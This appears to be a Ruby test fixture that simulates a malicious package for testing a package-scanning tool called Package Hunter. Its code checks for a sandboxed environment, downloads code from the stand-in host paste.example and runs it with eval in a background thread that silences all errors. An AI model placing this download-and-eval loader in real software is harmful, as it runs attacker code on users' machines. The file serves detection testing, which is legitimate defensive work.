# Harmless simulation for testing Package Hunter. Not malware.
require "net/http"
require "socket"

# goes on only inside of Package Hunter's box, where every name has an address for benchmarking
def sealed?(name)
  Addrinfo.getaddrinfo(name, nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

thread = Thread.new do
  begin
    if !%w[development test].include?(ENV["RAILS_ENV"].to_s) && sealed?("paste.example")
      text = Net::HTTP.get(URI("https://paste.example/raw/xa456PFt"))
      eval(text) # rubocop:disable all
    end
  rescue Exception
    nil
  end
end
thread.join(5)
